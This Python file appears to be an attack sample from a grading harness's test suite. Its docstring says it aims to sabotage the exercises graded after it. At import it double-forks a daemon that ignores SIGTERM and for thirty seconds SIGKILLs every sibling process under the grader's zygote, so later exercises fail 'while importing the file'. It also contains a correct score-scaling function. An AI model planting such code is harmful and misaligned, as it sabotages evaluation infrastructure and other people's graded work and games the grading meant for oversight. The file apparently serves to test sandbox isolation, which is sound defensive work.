"""Attack on the exercises graded after this one: at import, leave a daemon
that for half a minute SIGKILLs every other child of the zygote it can see
(this exercise's own child excepted),
which is how the exercise after this one (its child started ahead) and every
later one would die "while importing the file". The answers themselves are
right.

The zygote kills the daemon (an orphan, re-parented to it) when this
exercise ends, and the next exercise's code runs only after that: a child
started ahead and killed by the daemon before its turn is started again.
Full marks here and everywhere else, sandbox on and off.
"""
import ctypes
import os
import signal
import time

import torch

TAG = "__ATTACK_TAG__"  # test_attacks.py writes a unique tag here
ctypes.CDLL(None).prctl(15, TAG.encode(), 0, 0, 0)  # PR_SET_NAME: forks inherit the name
os.environ["ATTACK_TAG"] = TAG
ZYGOTE, SELF = os.getppid(), os.getpid()  # SELF: this exercise's own child is spared


def _parent_of(pid: str) -> int:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _killer() -> None:
    me = os.getpid()
    start = time.monotonic()
    while time.monotonic() - start < 30:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) not in (me, ZYGOTE, SELF) and _parent_of(name) == ZYGOTE:
                try:
                    os.kill(int(name), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.01)


if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            _killer()
    finally:
        os._exit(0)
os.wait()


def scale_scores(scores: torch.Tensor, head_size: int) -> torch.Tensor:
    return scores * head_size**-0.5
